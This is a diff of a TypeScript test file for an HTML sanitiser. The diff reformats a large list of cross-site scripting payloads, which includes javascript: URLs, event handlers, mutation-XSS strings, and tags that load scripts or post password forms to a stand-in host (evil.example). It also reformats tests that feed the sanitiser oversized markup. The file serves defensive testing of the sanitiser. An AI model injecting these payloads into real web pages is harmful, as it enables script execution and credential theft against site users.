@@ -4,23 +4,72 @@ import { sanitizePost } from './sanitize-post.js';
 import { harmIn } from './testing/harm-in.js';
 
 const PAYLOADS = [
-  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">', '<img src="data:image/svg+xml;base64,PHN2Zy8+">', '<img srcset="javascript:alert(1)" src=x>', '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="&#x6A;avascript&colon;alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="//evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="https://x.example" onclick="alert(1)">x</a>',
-  '<a href="https://x.example" target=_blank ping="https://evil.example">x</a>', '<a style="position:fixed;inset:0" href="https://x.example">x</a>',
-  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="x.swf">',
-  '<form action="https://evil.example"><input name=password><button>Go</button></form>', '<button formaction="javascript:alert(1)">x</button>', '<input autofocus onfocus=alert(1)>',
-  '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<style>@import "https://evil.example/x.css";</style>', '<p style="background:url(javascript:alert(1))">x</p>', '<div style="width:expression(alert(1))">x</div>',
-  '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>',
-  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<xmp><img src=x onerror=alert(1)></xmp>', '<textarea><img src=x onerror=alert(1)></textarea>', '<p id="app">x</p>', '<img name="getElementById" src="https://x.example/a.png">',
-  '<li id="root">x</li>', '<li id="not-source-1">x</li>', '<li id="source-1-root">x</li>', '<span data-sentence="b1.1&quot; onmouseover=&quot;alert(1)">x</span>', '<span data-sentence="x" class="ant-modal">x</span>',
-  '<p onpointerenter="alert(1)" tabindex=1>x</p>', '<img src=x:alert(1) onerror=eval(src)>', '<a href="https://x.example/\u0000javascript:alert(1)" onmouseover\u0000=alert(1)>x</a>',
-  '"><img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<<img src=x onerror=alert(1)>', '<p/onclick=alert(1)>x', '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+  '<img srcset="javascript:alert(1)" src=x>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="\\\\evil.example">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="https://x.example" onclick="alert(1)">x</a>',
+  '<a href="https://x.example" target=_blank ping="https://evil.example">x</a>',
+  '<a style="position:fixed;inset:0" href="https://x.example">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="x.swf">',
+  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<input autofocus onfocus=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<p id="app">x</p>',
+  '<img name="getElementById" src="https://x.example/a.png">',
+  '<li id="root">x</li>',
+  '<li id="not-source-1">x</li>',
+  '<li id="source-1-root">x</li>',
+  '<span data-sentence="b1.1&quot; onmouseover=&quot;alert(1)">x</span>',
+  '<span data-sentence="x" class="ant-modal">x</span>',
+  '<p onpointerenter="alert(1)" tabindex=1>x</p>',
+  '<img src=x:alert(1) onerror=eval(src)>',
+  '<a href="https://x.example/\u0000javascript:alert(1)" onmouseover\u0000=alert(1)>x</a>',
+  '"><img src=x onerror=alert(1)>',
+  '<img/src=x/onerror=alert(1)>',
+  '<<img src=x onerror=alert(1)>',
+  '<p/onclick=alert(1)>x',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<keygen autofocus onfocus=alert(1)>',
 ];
 
 const isRefused = (html: string): boolean => {
@@ -55,23 +104,42 @@ describe('sanitised HTML', () => {
   });
 
   it('gives links to other sites rel="noopener" and leaves relative ones alone', () => {
-    expect(sanitizePost('<a href="https://x.example" rel="opener">x</a><a href="/own">y</a><a href="mailto:a@b.example">z</a>')).toBe(
-      '<a href="https://x.example" rel="noopener">x</a><a href="/own">y</a><a href="mailto:a@b.example">z</a>',
-    );
+    expect(
+      sanitizePost(
+        '<a href="https://x.example" rel="opener">x</a><a href="/own">y</a><a href="mailto:a@b.example">z</a>',
+      ),
+    ).toBe('<a href="https://x.example" rel="noopener">x</a><a href="/own">y</a><a href="mailto:a@b.example">z</a>');
   });
 
   it.each([
-    ['<blockquote>', 'nested'], ['<ul><li>', 'nested'], ['<b>', 'nested'], ['<table><tr><td>', 'nested'], ['<unknown>', 'nested'], ['<b><!--</b>-->', 'nested'], ['<b title="</b>">', 'nested'], ['<svg><g>', 'nested'],
-    ['<p>', 'too many'], ['<br>', 'too many'], ['</p>', 'too many'], ['<li>', 'too many'], ['<i></i>', 'too many'],
+    ['<blockquote>', 'nested'],
+    ['<ul><li>', 'nested'],
+    ['<b>', 'nested'],
+    ['<table><tr><td>', 'nested'],
+    ['<unknown>', 'nested'],
+    ['<b><!--</b>-->', 'nested'],
+    ['<b title="</b>">', 'nested'],
+    ['<svg><g>', 'nested'],
+    ['<p>', 'too many'],
+    ['<br>', 'too many'],
+    ['</p>', 'too many'],
+    ['<li>', 'too many'],
+    ['<i></i>', 'too many'],
   ])('is refused in words for %s without end: %s', (unit, reason) => {
-    expect(() => sanitizePost(unit.repeat(16_000))).toThrow(expect.objectContaining({ name: 'MarkupTooHeavy', kind: 'invalid', message: expect.stringContaining(reason) }));
+    expect(() => sanitizePost(unit.repeat(16_000))).toThrow(
+      expect.objectContaining({ name: 'MarkupTooHeavy', kind: 'invalid', message: expect.stringContaining(reason) }),
+    );
   });
 
   // Without limits a parser takes minutes, as it shifts a list as long as the text for each tag.
-  it.each(['<b>', '&amp;', '<'])('is refused before it is read for half a million of %s', (unit) => expect(() => sanitizePost(unit.repeat(500_000))).toThrow('too many tags and entities: at most 50,000'));
+  it.each(['<b>', '&amp;', '<'])('is refused before it is read for half a million of %s', (unit) =>
+    expect(() => sanitizePost(unit.repeat(500_000))).toThrow('too many tags and entities: at most 50,000'),
+  );
 
   it('is refused for an element with thousands of attributes', () =>
-    expect(() => sanitizePost(`<p ${Array.from({ length: 10_000 }, (_, at) => `a${at}=1`).join(' ')}>x</p>`)).toThrow('too many attributes: at most 200'));
+    expect(() => sanitizePost(`<p ${Array.from({ length: 10_000 }, (_, at) => `a${at}=1`).join(' ')}>x</p>`)).toThrow(
+      'too many attributes: at most 200',
+    ));
 
   it('may be nested a hundred deep, and no deeper', () => {
     const nested = (levels: number) => '<blockquote>'.repeat(levels) + '</blockquote>'.repeat(levels);
@@ -80,6 +148,7 @@ describe('sanitised HTML', () => {
   });
 
   it('is text where nothing is an element, however long the runs are', () => {
-    for (const run of ['<', '>', '&', '</', '<!', '<?', '"', '=', '&#', '&amp']) expect(sanitizePost(run.repeat(40_000)).length).toBeLessThan(1_000_000);
+    for (const run of ['<', '>', '&', '</', '<!', '<?', '"', '=', '&#', '&amp'])
+      expect(sanitizePost(run.repeat(40_000)).length).toBeLessThan(1_000_000);
   });
 });
